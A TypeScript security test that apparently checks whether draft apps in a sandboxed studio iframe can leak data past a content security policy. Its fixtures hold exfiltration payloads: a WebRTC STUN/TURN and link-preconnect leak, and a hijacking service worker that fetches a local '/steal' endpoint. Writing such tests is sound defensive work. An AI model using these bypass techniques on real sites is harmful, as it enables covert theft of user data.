import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type Server } from 'node:net';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { chromiumPath } from '../../../../run/chromium.ts';
import { openInstallation, type Installation } from '../support/installation.ts';

const executablePath = chromiumPath();

/** An app that sends what it knows to a stranger, on the ways that a content security policy does not see. */
const leaks = (tcp: number, udp: number) => `<script>
	let state = $state('trying');
	const stranger = '127.0.0.1:${String(tcp)}';
	$effect(() => {
		const link = document.createElement('link');
		link.rel = 'preconnect';
		link.href = 'http://' + stranger;
		document.head.append(link);
		const peer = new RTCPeerConnection({ iceServers: [
			{ urls: 'stun:127.0.0.1:${String(udp)}' },
			{ urls: 'turn:' + stranger + '?transport=tcp', username: 'what it knows', credential: 'x' },
		] });
		peer.createDataChannel('x');
		peer.createOffer().then((offer) => peer.setLocalDescription(offer));
		setTimeout(() => (state = 'tried'), 1500);
	});
</script>
<p>{state}</p>`;

/** A service worker answers for the page itself, with one that no policy came with. */
const worker = (tcp: number) => `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
	if (event.request.mode !== 'navigate') return;
	const page = '<p>taken over</p><script>fetch("http://127.0.0.1:${String(tcp)}/steal", { mode: "no-cors" })</scr' + 'ipt>';
	event.respondWith(new Response(page, { headers: { 'content-type': 'text/html' } }));
});`;
const takesOver = `<script>
	let state = $state('trying');
	navigator.serviceWorker.register('/sw.js').then(
		() => navigator.serviceWorker.ready.then(() => location.reload()),
		() => (state = 'refused'),
	);
</script>
<p>{state}</p>`;

describe.skipIf(executablePath === undefined)('a draft in the frame of the studio', () => {
	let tinykit: Installation;
	let browser: Browser;
	let tcp: Server;
	let udp: Socket;
	const heard: string[] = [];

	beforeAll(async () => {
		tinykit = await openInstallation();
		await tinykit.runtime.apps.create('Shop');
		tcp = createServer((socket) => {
			heard.push('tcp');
			socket.on('error', () => undefined).destroy();
		});
		tcp.listen(0, '127.0.0.1');
		udp = createSocket('udp4', () => heard.push('udp'));
		udp.bind(0, '127.0.0.1');
		await Promise.all([once(tcp, 'listening'), once(udp, 'listening')]);
		browser = await chromium.launch({
			...(executablePath !== undefined && { executablePath }),
			args: ['--no-sandbox', '--disable-features=LocalNetworkAccessChecks'],
		});
	});
	afterAll(async () => {
		await browser.close();
		await tinykit.close();
		tcp.close();
		udp.close();
	});
	beforeEach(() => void heard.splice(0));

	/** Shows the draft as the studio does, until it says one of these words. */
	async function show(files: Readonly<Record<string, string>>, words: RegExp): Promise<string> {
		const workspace = tinykit.runtime.workspace('shop');
		for (const [path, text] of Object.entries(files)) await workspace.write(path, text);
		const { origins } = tinykit.runtime;
		const draft = origins.app(await tinykit.runtime.apps.get('shop')).draft;
		const page = await browser.newPage();
		try {
			await page.route(`${origins.builder}/studio`, (route) =>
				route.fulfill({
					contentType: 'text/html',
					headers: { 'content-security-policy': `frame-src ${origins.anyApp}` },
					body: `<iframe src="${draft}/" sandbox="allow-scripts allow-same-origin allow-forms allow-modals"></iframe>`,
				}),
			);
			await page.goto(`${origins.builder}/studio`);
			const said = page.frameLocator('iframe').locator('p', { hasText: words });
			await said.waitFor();
			const text = (await said.textContent()) ?? '';
			await page.waitForTimeout(500);
			return text;
		} finally {
			await page.close();
		}
	}

	it('reaches nobody by WebRTC or a connection made ahead', async () => {
		const { port } = tcp.address() as AddressInfo;
		const app = leaks(port, udp.address().port);
		expect(await show({ 'src/App.svelte': app }, /tried/)).toBe('tried');
		expect(heard).toEqual([]);
	});

	it('installs no service worker, which could answer with a page without a policy', async () => {
		const { port } = tcp.address() as AddressInfo;
		const files = { 'static/sw.js': worker(port), 'src/App.svelte': takesOver };
		expect(await show(files, /refused|taken over/)).toBe('refused');
		expect(heard).toEqual([]);
	});
});
